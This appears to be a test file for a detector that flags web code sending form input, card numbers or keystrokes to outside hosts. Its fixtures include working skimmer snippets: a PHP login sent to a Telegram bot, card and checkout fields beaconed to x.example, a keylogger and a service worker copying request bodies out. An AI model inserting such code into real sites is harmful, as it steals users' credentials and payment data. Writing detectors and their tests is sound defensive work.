import detector from "../../../../src/engine/detectors/content/page-input-sent.ts";
import { strengthsOfPrograms } from "../run-programs.ts";

const page = (text: string) => ({ "public/js/a.js": text });

test.each([
  [
    "what a login form posts, to a chat",
    {
      "login.php":
        "<?php\nfile_get_contents('https://api.telegram.org/bot1:x/sendMessage?text=' . urlencode($_POST['user'] . $_POST['pass']));\n",
    },
    ["strong"],
  ],
  [
    "an order, to a chat",
    {
      "order.php":
        "<?php\nfile_get_contents('https://api.telegram.org/bot1:x/sendMessage?text=' . urlencode($_POST['order']));\n",
    },
    [],
  ],
  [
    "a card, by a script in a template",
    {
      "views/pay.erb":
        "<form id='pay'><input name='cc_number'></form>\n<script>\ndocument.getElementById('pay').addEventListener('submit', function () {\n  new Image().src = 'https://x.example/i.gif?d=' + btoa(document.querySelector('input').value);\n});\n</script>\n",
    },
    ["strong"],
  ],
  [
    "fields of a checkout, while they are filled",
    page(
      "document.querySelectorAll('#payment input').forEach((el) => el.addEventListener('change', () => {\n  new Image().src = 'https://x.example/p?d=' + btoa(el.value);\n}));\n",
    ),
    ["strong"],
  ],
  [
    "keys",
    page(
      "let all = '';\ndocument.addEventListener('keydown', (e) => {\n  all += e.key;\n  fetch('https://x.example/k', { method: 'POST', body: all });\n});\n",
    ),
    ["strong"],
  ],
  [
    "a login, to two receivers",
    page(
      "export function submit(form) {\n  const all = new FormData(form);\n  navigator.sendBeacon('https://x.example/b', all);\n  return fetch('/login', { method: 'POST', body: all });\n}\nwindow.submit = submit;\n",
    ),
    ["strong"],
  ],
  [
    "what a service worker is asked for",
    page(
      "self.addEventListener('fetch', (event) => {\n  event.respondWith((async () => {\n    const body = await event.request.clone().text();\n    fetch('https://x.example/l', { method: 'POST', body });\n    return fetch(event.request);\n  })());\n});\n",
    ),
    ["strong"],
  ],
  [
    "a form that goes to its service",
    page(
      "const form = document.querySelector('form');\nform.addEventListener('submit', () => fetch('https://forms.example/f', { method: 'POST', body: new FormData(form) }));\n",
    ),
    [],
  ],
  [
    "a search, key by key, on the page's own server",
    page(
      "const box = document.querySelector('#search');\nbox.addEventListener('keyup', () => fetch('/search?q=' + box.value));\n",
    ),
    [],
  ],
  [
    "a server that passes a request on",
    {
      "src/server.js":
        "import express from 'express';\nconst app = express();\napp.post('/a', (req) => fetch('https://hooks.example/', { method: 'POST', body: JSON.stringify(req.body) }));\n",
    },
    [],
  ],
] as const)("%s", async (_, files, expected) => {
  expect(await strengthsOfPrograms(detector, files)).toEqual(expected);
});
